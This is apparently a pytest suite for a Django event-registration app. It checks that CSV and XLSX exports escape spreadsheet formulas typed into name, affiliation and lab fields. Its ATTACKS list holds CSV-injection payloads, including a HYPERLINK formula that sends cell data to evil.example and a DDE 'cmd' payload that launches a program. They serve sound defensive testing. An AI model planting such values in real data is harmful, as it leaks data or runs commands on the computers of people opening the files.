"""Registration exports, attacked with spreadsheet formulas typed as a name, an affiliation or a lab.

Both ways out are covered: the event's CSV link (Admin → Events) and the Registrations list's
Export button, in CSV and XLSX. A formula must come out as text with a leading quote, never as a
formula, and Excel must read the CSV as UTF-8 (byte-order mark first).
"""
import csv
import io

import openpyxl
import pytest
from django.forms import BooleanField
from django.urls import reverse

from textsafety.spreadsheets import escape_formula
from tests.factories import RegistrationFactory, ResearcherFactory

pytestmark = pytest.mark.django_db

BOM = b"\xef\xbb\xbf"
ATTACKS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "\r=1+1",
]
EXPORT_URL = reverse("admin:attendees_registration_export")


def attacked_registration(event, attack):
    researcher = ResearcherFactory(first_name=attack, last_name="Kim", native_name="김민준", affiliation=attack,
                                   lab=attack, graduation_year=2028)
    return RegistrationFactory(event=event, researcher=researcher)


def admin_export(client, title):
    """What the Registrations list's Export button downloads in the format called `title` ("csv", "xlsx")."""
    form = client.get(EXPORT_URL).context["form"]
    format_index = next(value for value, label in form.fields["format"].choices if label == title)
    data = {"format": format_index, "resource": "0"}
    data.update({name: "on" for name, field in form.fields.items() if isinstance(field, BooleanField)})
    return client.post(EXPORT_URL, data)


def csv_rows(content):
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def event_csv(client, event):
    return client.get(reverse("admin:events_event_registrations_csv", args=[event.pk]))


@pytest.mark.parametrize("attack", ATTACKS)
def test_event_registrations_csv_escapes_a_formula_typed_in_name_affiliation_and_lab(admin_client, event, attack):
    attacked_registration(event, attack)

    response = event_csv(admin_client, event)

    [row] = csv_rows(response.content)
    assert (row["first_name"], row["affiliation"], row["lab"]) == ("'" + attack,) * 3
    assert row["last_name"] == "Kim"


@pytest.mark.parametrize("attack", ATTACKS)
def test_registrations_admin_csv_export_escapes_a_formula(admin_client, event, attack):
    attacked_registration(event, attack)

    response = admin_export(admin_client, "csv")

    [row] = csv_rows(response.content)
    assert (row["first_name"], row["affiliation"], row["lab"]) == ("'" + attack,) * 3


@pytest.mark.parametrize("attack", ATTACKS)
def test_registrations_admin_xlsx_export_has_no_formula_cell(admin_client, event, attack):
    registration = attacked_registration(event, attack)

    response = admin_export(admin_client, "xlsx")

    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    header = [cell.value for cell in sheet[1]]
    row = {name: cell for name, cell in zip(header, sheet[2], strict=True)}
    assert [cell.coordinate for line in sheet.iter_rows() for cell in line if cell.data_type == "f"] == []
    # (XML turns a carriage return into a line feed when the file is read.)
    escaped = ("'" + attack).replace("\r", "\n")
    assert (row["first_name"].value, row["affiliation"].value, row["lab"].value) == (escaped,) * 3
    # Numbers stay numbers and empty cells stay empty.
    assert (row["id"].value, row["graduation_year"].value) == (registration.pk, 2028)
    assert (row["id"].data_type, row["graduation_year"].data_type) == ("n", "n")
    assert row["homepage"].value is None


def test_event_registrations_csv_starts_with_the_byte_order_mark_and_keeps_hangul(admin_client, event):
    RegistrationFactory(event=event, researcher__native_name="김민준", researcher__affiliation="서울대학교")

    response = event_csv(admin_client, event)

    assert response.content.startswith(BOM)
    [row] = csv_rows(response.content)
    assert (row["native_name"], row["affiliation"]) == ("김민준", "서울대학교")


def test_registrations_admin_csv_export_starts_with_the_byte_order_mark_and_keeps_hangul(admin_client, event):
    RegistrationFactory(event=event, researcher__native_name="김민준")

    response = admin_export(admin_client, "csv")

    assert response.content.startswith(BOM)
    assert csv_rows(response.content)[0]["native_name"] == "김민준"


def test_registrations_admin_export_offers_spreadsheets_only(admin_client):
    form = admin_client.get(EXPORT_URL).context["form"]

    assert [label for value, label in form.fields["format"].choices if value != ""] == ["csv", "xlsx"]


def test_a_harmless_name_is_exported_unchanged(admin_client, event):
    RegistrationFactory(event=event, researcher__first_name="Jean-Luc", researcher__lab="A-Lab (=Vision)")

    [row] = csv_rows(event_csv(admin_client, event).content)

    assert (row["first_name"], row["lab"]) == ("Jean-Luc", "A-Lab (=Vision)")


@pytest.mark.parametrize(("value", "expected"), [
    (-3, -3), (2.5, 2.5), (None, None), ("-3", "-3"), ("+82", "+82"), ("-2.5", "-2.5"),
    ("-2+3", "'-2+3"), ("+82-10-1234-5678", "'+82-10-1234-5678"), ("=1", "'=1"), ("@x", "'@x"),
    ("\t1", "'\t1"), ("\r1", "'\r1"), ("Kim", "Kim"), ("", ""),
])
def test_escape_formula_leaves_numbers_and_quotes_formulas(value, expected):
    assert escape_formula(value) == expected
